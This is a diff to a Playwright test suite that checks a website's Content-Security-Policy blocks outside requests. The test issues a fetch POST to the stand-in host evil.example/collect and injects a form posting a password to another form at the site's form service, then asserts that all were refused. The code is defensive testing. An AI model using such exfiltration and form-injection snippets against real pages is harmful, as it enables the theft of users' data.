@@ -1,7 +1,10 @@
 // The Content-Security-Policy in the browser: the site's own scripts run, everything else is blocked.
 import type { Locator, Page, Route } from "@playwright/test";
-import { pagePaths, recordViolations, REFUSED, violations } from "./csp-helpers";
+import { FORM_SERVICE, pagePaths, recordViolations, REFUSED, violations } from "./csp-helpers";
 import { expect, expectConsole, test } from "./fixtures";
+
+/** Another form at the site's form service: the policy allows only the site's own. */
+const OTHER_FORM = `${FORM_SERVICE}/f/someone-else`;
 
 interface GatsbyWindow {
   pagePath?: string;
@@ -149,16 +152,34 @@ test.describe("under the Content-Security-Policy", { tag: "@once" }, () => {
     expectConsole(consoleProblems, REFUSED);
   });
 
-  test("requests to any origin but the site and the form service are refused", async ({ page, consoleProblems }) => {
+  test("requests and posts anywhere but the site and its form are refused, even another form of the service", async ({
+    page,
+    consoleProblems,
+  }) => {
     await page.goto("/contact");
-    const outcome = await page.evaluate(() =>
-      fetch("https://evil.example/collect", { method: "POST", body: "x" }).then(
-        () => "sent",
-        () => "refused",
-      ),
+    const outcomes = await page.evaluate(
+      (urls) =>
+        Promise.all(
+          urls.map((url) =>
+            fetch(url, { method: "POST", body: "x" }).then(
+              () => "sent",
+              () => "refused",
+            ),
+          ),
+        ),
+      ["https://evil.example/collect", OTHER_FORM],
     );
-    expect(outcome).toBe("refused");
-    expect(await violations(page)).toEqual(["connect-src https://evil.example/collect"]);
+    expect(outcomes).toEqual(["refused", "refused"]);
+    // A form planted in the page, posting a password to someone else's form at the same service.
+    await page.evaluate((action) => {
+      const form = Object.assign(document.createElement("form"), { method: "post", action });
+      form.append(Object.assign(document.createElement("input"), { name: "password", value: "secret" }));
+      document.body.append(form);
+      form.submit();
+    }, OTHER_FORM);
+    await expect
+      .poll(() => violations(page))
+      .toEqual(["connect-src https://evil.example/collect", `connect-src ${OTHER_FORM}`, `form-action ${OTHER_FORM}`]);
     expectConsole(consoleProblems, REFUSED);
   });
 });
